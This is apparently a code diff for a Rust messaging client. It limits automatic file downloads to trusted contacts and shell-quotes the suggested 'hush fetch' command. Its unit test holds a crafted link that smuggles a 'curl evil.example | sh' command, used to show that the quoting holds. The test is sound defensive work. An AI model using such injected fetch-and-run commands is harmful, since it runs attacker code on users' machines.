@@ -34,6 +34,8 @@ pub(crate) struct Downloads {
     pub(crate) dir: PathBuf,
     /// The automatic download limit, in bytes.
     pub(crate) max: u64,
+    /// Whether the user chose either (an agent does not take them).
+    pub(crate) given: bool,
 }
 
 impl Downloads {
@@ -41,6 +43,7 @@ impl Downloads {
     /// [`DEFAULT_MAX_DOWNLOAD`]).
     pub(crate) fn new(home: &Home, dir: Option<PathBuf>, max: Option<u64>) -> Self {
         Self {
+            given: dir.is_some() || max.is_some(),
             dir: dir.unwrap_or_else(|| home.dir().join("downloads")),
             max: max.unwrap_or(DEFAULT_MAX_DOWNLOAD),
         }
@@ -126,6 +129,66 @@ fn display_name(file: &SharedFile) -> String {
     printable(name)
 }
 
+/// Whether the file a message shares may be downloaded by itself.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Fetch {
+    /// Yes (the size limit is checked by [`save`]).
+    Now,
+    /// No: why, said to the user (it is shown with the `hush fetch` command instead).
+    Not(String),
+    /// The message shares no file.
+    NoFile,
+}
+
+/// A file is fetched by itself only from someone the user chose to hear from: a contact (or
+/// our own other device, or a room member) whose key is trusted. Anyone else's link would
+/// make Hush contact a server of their choosing (telling it when and from where) and fill the
+/// disk: it is shown, and `hush fetch` gets it.
+pub(crate) fn may_fetch(store: &impl hush_store::Store, me: &str, d: &Delivery) -> Fetch {
+    if d.file.is_none() {
+        return Fetch::NoFile;
+    }
+    match d.trust {
+        Some(hush_store::Trust::Verified | hush_store::Trust::Blind) => {}
+        _ => {
+            return Fetch::Not(
+                "the sender's key is not trusted, so it was not downloaded by itself".to_owned(),
+            )
+        }
+    }
+    let conversation = if d.from.eq_ignore_ascii_case(me) {
+        d.arrival.to.as_str()
+    } else {
+        d.from.as_str()
+    };
+    let chosen = d.arrival.room.is_some()
+        || d.from.eq_ignore_ascii_case(me)
+        || store.conversation(conversation).is_ok_and(|c| c.contact);
+    if chosen {
+        Fetch::Now
+    } else {
+        Fetch::Not(format!(
+            "{} is not one of your contacts, so it was not downloaded by itself",
+            printable(&d.from)
+        ))
+    }
+}
+
+/// Downloads what `d` shares when [`may_fetch`] allows and it is under the limit; what
+/// became of it (`None` when it shares nothing).
+pub(crate) async fn save_if_allowed(
+    store: &impl hush_store::Store,
+    me: &str,
+    d: &Delivery,
+    downloads: &Downloads,
+) -> Option<Saved> {
+    match may_fetch(store, me, d) {
+        Fetch::Now => save(d, downloads).await,
+        Fetch::Not(why) => Some(Saved::NotSaved(why)),
+        Fetch::NoFile => None,
+    }
+}
+
 /// Downloads the file `d` shares, if any, when it is under the automatic limit.
 pub(crate) async fn save(d: &Delivery, downloads: &Downloads) -> Option<Saved> {
     let file = d.file.as_ref()?;
@@ -187,16 +250,22 @@ pub(crate) fn describe(file: &SharedFile, saved: Option<&Saved>) -> (Value, Stri
             )
         }
         Some(Saved::NotSaved(why)) => format!(
-            "{about}, not downloaded: {}; to get it: hush fetch '{}'",
+            "{about}, not downloaded: {}; to get it: hush fetch {}",
             printable(why),
-            printable(file.link.to_aesgcm().as_str())
+            shell_quoted(&printable(file.link.to_aesgcm().as_str()))
         ),
         None => format!(
-            "{about}; to get it: hush fetch '{}'",
-            printable(file.link.to_aesgcm().as_str())
+            "{about}; to get it: hush fetch {}",
+            shell_quoted(&printable(file.link.to_aesgcm().as_str()))
         ),
     };
     (json, line)
+}
+
+/// `text` as one word for a POSIX shell: in single quotes, each `'` written `'\''`, so a
+/// suggested command pasted into a shell runs nothing else, whatever a sender put in a link.
+pub(crate) fn shell_quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 /// `hush send-file`: through the agent when one runs, else on a connection of our own.
@@ -304,5 +373,25 @@ mod tests {
             "JSON keeps it exact"
         );
         assert!(line.contains("hush fetch 'aesgcm://h/p/x.bin#"), "{line}");
+    }
+
+    /// A link made to break out of the quotes of the suggested command stays one word.
+    #[test]
+    fn the_suggested_command_cannot_run_anything_else() {
+        let link = Link::parse(&format!(
+            "aesgcm://x/';{{curl,-s,evil.example}}|sh;'#{}",
+            "00".repeat(44)
+        ))
+        .unwrap();
+        let file = SharedFile::from_link(link);
+        let (_, line) = describe(&file, Some(&Saved::NotSaved("too large".into())));
+        let command = line.split("to get it: ").nth(1).unwrap();
+        assert_eq!(
+            command,
+            format!(
+                "hush fetch 'aesgcm://x/'\\'';{{curl,-s,evil.example}}|sh;'\\''#{}'",
+                "00".repeat(44)
+            )
+        );
     }
 }
